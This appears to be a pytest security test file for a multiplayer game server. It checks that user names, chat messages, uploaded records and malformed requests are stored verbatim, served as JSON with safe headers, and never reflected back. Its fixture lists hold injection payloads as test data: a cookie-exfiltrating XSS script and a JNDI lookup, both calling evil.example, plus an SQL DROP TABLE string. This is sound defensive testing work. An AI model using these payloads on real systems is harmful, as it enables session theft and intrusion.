"""What people write is kept as it is and goes out as JSON; no answer repeats what was sent in a wrong request."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import select

from folsom.notation.record import record_text
from folsom.server.house import House
from folsom.server.store.schema import people, talk
from folsom.server.tables.words import clean_words
from notation.games import random_record
from server.attacks.lines import Line
from server.browsers import browser as browser_at
from server.houses import SETUP, new_people, run
from server.live import Live
from server.people.browsers import NewBrowser, good, rows, table

NAMES = ["<script>a()</script>", "<img src=x onerror=a()>", '"><svg onload=a()>', "javascript:alert(1)", "{{7*7}}"]
WORDS = [
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "'); DROP TABLE people;--",
    "[click](javascript:alert(1))",
    "=HYPERLINK(1)",
    "${jndi:ldap://evil.example/x}",
    "%s%s%n {0.__class__} {{7*7}}",
    "</script><!--",
]
MARK = "<u>marked-4711</u>"


def safe(answer: httpx.Response) -> None:
    """No browser takes an answer for a page, or lets anything in it run."""
    assert answer.headers["content-type"] in ("application/json", "text/plain; charset=utf-8")
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "default-src 'none'" in answer.headers["content-security-policy"]


@pytest.mark.parametrize("name", NAMES)
def test_a_name_is_text_wherever_it_is_shown(server: Live, browser: NewBrowser, name: str) -> None:
    ann, bob = browser(), browser()
    person = ann.guest(name)
    bob.guest("Bob")
    assert rows(server, select(people.c.name).where(people.c.id == person)) == [{"name": name}]
    place = good(ann.post("/tables", setup={"players": 4}, public=True), 201)["id"]
    for path in (f"/tables/{place}", "/tables", f"/people/{person}/statistics"):
        answer = bob.get(path)
        safe(answer)
        assert name in json.dumps(answer.json(), ensure_ascii=False).replace('\\"', '"')
    line = Line(bob.socket())
    line.say(type="watch", table=place)
    assert line.heard()[0]["shown"]["seats"][0]["person"] == {"id": person, "name": name}


def test_words_are_text_wherever_they_are_heard(server: Live, browser: NewBrowser) -> None:
    ann, bob = browser(), browser()
    ids: list[str | None] = [ann.guest(), bob.guest("Bob"), ann.me(), bob.me()]
    table(server, "texts", str(ids[0]), ids)
    hears, speaks = Line(bob.socket()), Line(ann.socket())
    hears.say(type="watch", table="texts")
    hears.heard()
    for words in WORDS[:5]:
        speaks.say(type="say", table="texts", text=words)
    assert speaks.heard() == []
    said = []
    while len(said) < 5:
        said += [message["text"] for message in hears.heard() if message["type"] == "talk"]
    assert said == WORDS[:5]
    assert [
        row["text"] for row in rows(server, select(talk).where(talk.c.table == "texts").order_by(talk.c.id))
    ] == said
    export = ann.get("/me/export")
    safe(export)
    assert export.headers["content-disposition"].startswith("attachment")
    assert [one["text"] for one in export.json()["tables"][0]["talk"]] == said


@pytest.mark.parametrize("words", WORDS)
def test_words_need_no_special_case(words: str) -> None:
    assert clean_words(words) == words


def test_a_record_is_text(tmp_path: Path) -> None:
    """Whoever brought it, and whatever it says: a file to keep, not a page to show."""
    text = record_text(random_record(SETUP, 3, 40))

    async def inside(house: House) -> None:
        await new_people(house, 1)
        async with browser_at(house, "p0") as ann:
            address = (await ann.post("/api/records", content=text, headers={"content-type": "text/plain"})).json()[
                "id"
            ]
            answer = await ann.get(f"/api/replays/{address}/record")
            safe(answer)
            assert answer.headers["content-disposition"] == f'attachment; filename="folsom-{address}.txt"'
            safe(await ann.get(f"/api/replays/{address}"))

    run(inside, tmp_path)


WRONG: list[tuple[str, str, Any]] = [
    ("GET", f"/api/{MARK}", None),
    ("GET", f"/{MARK}", None),
    ("GET", f"/api/tables/{MARK}", None),
    ("GET", f"/api/replays/x?viewer={MARK}", None),
    ("GET", f"/api/replays/x?upto={MARK}", None),
    ("GET", f"/api/my/tables?state={MARK}", None),
    ("GET", f"/api/codes/{MARK}", None),
    ("POST", "/api/tables", {"setup": {"players": 4, "boxes": [MARK]}}),
    ("POST", "/api/tables", {"setup": {"players": 4, MARK: 1}}),
    ("POST", "/api/tables", {"setup": {"players": MARK}}),
    ("POST", "/api/tables", {"setup": {"players": 4}, MARK: {MARK: MARK}}),
    ("POST", "/api/tables", {"setup": {"players": 4}, "options": {"level": MARK}}),
    ("POST", "/api/tables", {"setup": {"players": 4}, "options": {"clock": {"kind": MARK}}}),
    ("POST", "/api/login", {"login": MARK, "password": MARK}),
    ("POST", "/api/recover", {"code": MARK}),
    ("POST", "/api/guests", {"name": MARK, "lang": MARK}),
    ("PATCH", "/api/me", {"lang": MARK}),
    ("POST", "/api/mutes", {"person": MARK}),
    ("POST", "/api/records", MARK),
    ("MARKED4711", "/api/me", None),
]


@pytest.mark.parametrize(("method", "path", "body"), WRONG, ids=str)
def test_a_wrong_request_is_not_repeated(browser: NewBrowser, method: str, path: str, body: Any) -> None:
    ann = browser(**{"X-Marked": MARK, "Referer": f"http://x/{MARK}", "User-Agent": MARK})
    ann.guest()
    text = isinstance(body, str)
    answer = ann.http.request(
        method,
        path,
        content=body if text else None if body is None else json.dumps(body),
        headers={"Content-Type": "text/plain" if text else "application/json"},
    )
    assert answer.status_code in (401, 404, 405, 409, 422), answer.text
    safe(answer)
    assert "4711" not in answer.text + str(answer.headers)


@pytest.mark.parametrize(
    "message",
    [
        {"type": MARK},
        {"type": "lobby", "on": MARK},
        {"type": "lobby", "on": True, MARK: 1},
        {"type": "watch", "table": MARK},
        {"type": "watch", "table": "x", "seat": {MARK: MARK}},
        {MARK: MARK},
    ],
    ids=str,
)
def test_a_wrong_message_is_not_repeated(browser: NewBrowser, message: dict[str, Any]) -> None:
    ann = browser()
    ann.guest()
    line = Line(ann.socket())
    line.say(**message)
    (answer,) = line.heard()
    assert answer["type"] == "refused" and "4711" not in json.dumps(answer)
